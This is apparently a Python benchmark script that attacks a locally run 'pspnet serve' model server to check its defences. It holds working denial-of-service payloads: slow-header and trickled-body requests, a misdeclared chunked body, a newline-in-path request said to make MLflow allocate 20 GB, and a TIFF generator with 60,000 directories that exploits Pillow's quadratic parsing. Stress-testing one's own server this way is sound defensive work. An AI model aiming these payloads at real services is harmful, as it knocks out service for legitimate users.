"""Runs all attacks on a `pspnet serve` server at once, each from its own address (127.0.0.2, ...), for serving.py.

python benchmarks/attacks.py PORT SECONDS           prints, as JSON, how often each attack had which outcome

Every attack succeeded against an earlier version of the server: all other clients were rejected or had to wait, or
memory ran out.
"""

import json
import socket
import struct
import sys
import threading
import time
from base64 import b64encode
from collections import Counter
from collections.abc import Iterator

PAUSE_SECONDS = 1.0  # pause between two attempts by the same attacker
HEAD = b"POST /invocations HTTP/1.1\r\nhost: here\r\ncontent-type: application/json\r\n"
MB = 1_000_000


def newline() -> Iterator[bytes]:
    """A 0.25 MB request whose path ends with a newline, which used to bypass all limits: MLflow turns it into 20 GB."""
    yield whole(json.dumps({"inputs": ["A" * 100_000, *[""] * 50_000]}, separators=(",", ":")).encode(), b"%0A")


def directories() -> Iterator[bytes]:
    """A TIFF of 5 MB with 60,000 directories. Pillow needs quadratic time to count them."""
    rows = [[b64encode(tiff_of(60_000)).decode()]]
    yield whole(json.dumps({"dataframe_split": {"columns": ["image"], "data": rows}}).encode())


def chunks() -> Iterator[bytes]:
    """60 MB sent in chunks, although the header declares one byte. The body never ends."""
    yield HEAD + b"content-length: 1\r\ntransfer-encoding: chunked\r\n\r\n"
    for _ in range(60):
        yield f"{MB:x}\r\n".encode() + b" " * MB + b"\r\n"


def declared() -> Iterator[bytes]:
    """One byte of a body declared as 64 MB."""
    yield HEAD + b"content-length: 64000000\r\n\r\n{"


def trickle() -> Iterator[bytes]:
    """One byte per second of a body declared as 64 MB."""
    yield HEAD + b"content-length: 64000000\r\n\r\n{"
    while True:
        time.sleep(1)
        yield b" "


def half_headers() -> Iterator[bytes]:
    yield HEAD


def slow_headers() -> Iterator[bytes]:
    """One header per second, endlessly."""
    yield HEAD
    for number in range(1_000_000):
        time.sleep(1)
        yield f"x-{number}: y\r\n".encode()


def after_refusal() -> Iterator[bytes]:
    """A body that the client keeps sending after the server has rejected it."""
    yield HEAD.replace(b"/json", b"/xml") + b"content-length: 64000000\r\n\r\n"
    while True:
        time.sleep(1)
        yield b" "


# Each attack, with its number of attackers, who share one address.
ATTACKS = {
    newline: 2, directories: 2, chunks: 6, declared: 20, trickle: 20, half_headers: 150, slow_headers: 50,
    after_refusal: 20,
}  # fmt: skip


def whole(body: bytes, after_address: bytes = b"") -> bytes:
    head = HEAD.replace(b"/invocations", b"/invocations" + after_address)
    return head + f"content-length: {len(body)}\r\n\r\n".encode() + body


def tiff_of(directories: int) -> bytes:
    """Return a TIFF with a gray 8 x 8 image in each directory."""
    entries = ((256, 8), (257, 8), (258, 8), (259, 1), (262, 1), (273, 8), (279, 64))
    size = 2 + 12 * len(entries) + 4
    first = 8 + 64
    fields = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
    count = struct.pack("<H", len(entries))
    nexts = [first + size * number for number in range(1, directories)] + [0]
    return (
        b"II*\0"
        + struct.pack("<I", first)
        + bytes(64)
        + b"".join(count + fields + struct.pack("<I", following) for following in nexts)
    )


def attempt(port: int, host: str, parts: Iterator[bytes], until: float) -> str:
    """Return the response's status, or how the attempt ended if there was no response."""
    try:
        with socket.create_connection(("127.0.0.1", port), 10, source_address=(host, 0)) as client:
            for part in parts:
                client.settimeout(max(0.1, until - time.monotonic()))
                client.sendall(part)
                client.settimeout(0.001)
                try:
                    return status(client.recv(1000))
                except TimeoutError:
                    if time.monotonic() > until:
                        return "still open at the end"
            client.settimeout(max(0.1, until - time.monotonic()))
            return status(client.recv(1000))
    except TimeoutError:
        return "still open at the end"
    except OSError:
        return "ended by the server"


def status(answer: bytes) -> str:
    return answer[9:12].decode() if answer.startswith(b"HTTP/") else "ended by the server"


def main() -> None:
    port, seconds = int(sys.argv[1]), float(sys.argv[2])
    until = time.monotonic() + seconds
    outcomes = {attack.__name__: Counter[str]() for attack in ATTACKS}
    lock = threading.Lock()

    def attacker(attack: object, host: str) -> None:
        prepared = list(attack()) if attack in (newline, directories, chunks) else None
        while time.monotonic() < until:
            outcome = attempt(port, host, iter(prepared) if prepared else attack(), until)
            with lock:
                outcomes[attack.__name__][outcome] += 1
            time.sleep(min(PAUSE_SECONDS, max(0.0, until - time.monotonic())))

    threads = [
        threading.Thread(target=attacker, args=(attack, f"127.0.0.{2 + number}"))
        for number, (attack, attackers) in enumerate(ATTACKS.items())
        for _ in range(attackers)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(outcomes))


if __name__ == "__main__":
    main()
